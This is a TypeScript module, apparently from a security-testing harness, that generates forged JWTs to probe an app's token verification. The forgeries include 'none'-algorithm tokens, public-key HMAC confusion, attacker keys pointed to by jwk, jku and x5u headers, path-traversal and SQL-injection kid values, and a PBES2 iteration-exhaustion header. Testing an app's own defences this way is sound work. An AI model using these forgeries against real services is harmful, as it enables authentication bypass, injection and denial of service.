import 'server-only'
import {
  createHmac,
  generateKeyPairSync,
  sign,
  type JsonWebKey,
  type KeyObject,
  createPublicKey,
} from 'node:crypto'
import { EncryptJWT } from 'jose'
import type { Variant } from './variants'

/** Tokens that somebody made up who has all that is public: the claims of a good token, and the keys that verify it. */

type Json = Record<string, unknown>
export type PublicKey = JsonWebKey & { kid: string; alg: string }

const encoded = (value: Json) => Buffer.from(JSON.stringify(value)).toString('base64url')

const token = (header: Json, claims: Json, signature: (input: Buffer) => Buffer) => {
  const input = `${encoded(header)}.${encoded(claims)}`
  return `${input}.${signature(Buffer.from(input)).toString('base64url')}`
}

const typ = 'at+jwt'

/** RFC 8725 §2.1: no signature at all, under every spelling. */
const unsigned = (claims: Json): Variant[] =>
  ['none', 'None', 'NONE', 'nOnE', '', 'HS256'].map((alg) => ({
    name: `alg "${alg}" without a signature`,
    credential: token({ alg, typ }, claims, () => Buffer.alloc(0)),
  }))

/** RFC 8725 §2.1: the public key as the secret of an HMAC, in every form in which it may lie about. */
function keyConfusion(claims: Json, jwk: PublicKey): Variant[] {
  const key = createPublicKey({ key: jwk, format: 'jwk' })
  const forms: Record<string, Buffer> = {
    PEM: Buffer.from(key.export({ type: 'spki', format: 'pem' })),
    DER: key.export({ type: 'spki', format: 'der' }),
    JWK: Buffer.from(JSON.stringify(jwk)),
    'bare bytes': Buffer.from(`${jwk.x}${jwk.y ?? ''}`, 'base64url'),
    nothing: Buffer.alloc(0),
  }
  const header = { alg: 'HS256', typ, kid: jwk.kid }
  return Object.entries(forms).map(([form, secret]) => ({
    name: `HS256 with the public key as ${form}`,
    credential: token(header, claims, (input) => createHmac('sha256', secret).update(input).digest()),
  }))
}

/** A key pair of the attacker's for the algorithm that the app signs with: nothing but the key itself is wrong. */
export function attackersKey(alg: string) {
  const { publicKey, privateKey } =
    alg === 'EdDSA' ? generateKeyPairSync('ed25519') : generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const { kty, crv, x, y } = publicKey.export({ format: 'jwk' })
  return { privateKey, jwk: { kty, crv, x, y, alg, use: 'sig', kid: 'of-the-attacker' } }
}

/** As a JWS has it (RFC 7518 §3.4, RFC 8037 §3.1). */
const signatureBy = (privateKey: KeyObject, alg: string) => (input: Buffer) =>
  sign(alg === 'EdDSA' ? null : 'sha256', input, { key: privateKey, dsaEncoding: 'ieee-p1363' })

/** RFC 8725 §3.10: a good signature, by a key that the token brings along or says where to fetch. */
function foreignKey(
  claims: Json,
  ours: PublicKey,
  own: ReturnType<typeof attackersKey>,
  url: string,
): Variant[] {
  const { jwk, privateKey } = own
  const headers: Record<string, Json> = {
    'the kid of the app’s key': { kid: ours.kid },
    'a kid of its own': { kid: jwk.kid },
    'no kid': {},
    'its key in the header (jwk)': { jwk },
    'its key in the header, with the app’s kid': { jwk, kid: ours.kid },
    'an address of keys (jku)': { jku: url, kid: jwk.kid },
    'an address of keys, with the app’s kid': { jku: url, kid: ours.kid },
    'an address of certificates (x5u)': { x5u: url, kid: jwk.kid },
    'a kid that is an address': { kid: url },
    'a kid that is a path': { kid: '../../../../dev/null' },
    'a kid that is a query': { kid: `' UNION SELECT '${jwk.x}` },
    'a critical extension': { kid: ours.kid, crit: ['b64'], b64: false },
  }
  return Object.entries(headers).map(([name, header]) => ({
    name: `another key, ${name}`,
    credential: token({ alg: jwk.alg, typ, ...header }, claims, signatureBy(privateKey, jwk.alg)),
  }))
}

const secretless = new Uint8Array(64)

/** For who opens JWEs: one under a key that anybody can guess, and two that ask for work before they can be refused. */
async function encrypted(claims: Json): Promise<Variant[]> {
  const header = { alg: 'dir', enc: 'A256CBC-HS512' }
  const guessed = await new EncryptJWT(claims).setProtectedHeader(header).encrypt(secretless)
  const junk = (protectedHeader: Json) => `${encoded(protectedHeader)}.AAAA.AAAA.AAAA.AAAA`
  const work = { alg: 'PBES2-HS512+A256KW', enc: 'A256CBC-HS512', p2s: 'AAAAAAAAAAA', p2c: 2_147_483_647 }
  return [
    { name: 'encrypted with a key of zeros', credential: guessed },
    { name: 'two thousand million rounds of PBES2 asked for', credential: junk(work) },
    { name: 'compressed', credential: junk({ ...header, zip: 'DEF' }) },
  ]
}

/**
 * @param claims those of a good token, with whatever the attacker wishes
 * @param ours the public key that verifies the good one
 * @param own the attacker's key
 * @param canaryUrl where the attacker sees whether the app fetches a key
 */
export const forgeries = async (
  claims: Json,
  ours: PublicKey,
  own: ReturnType<typeof attackersKey>,
  canaryUrl: string,
): Promise<Variant[]> => [
  ...unsigned(claims),
  ...keyConfusion(claims, ours),
  ...foreignKey(claims, ours, own, canaryUrl),
  ...(await encrypted(claims)),
]
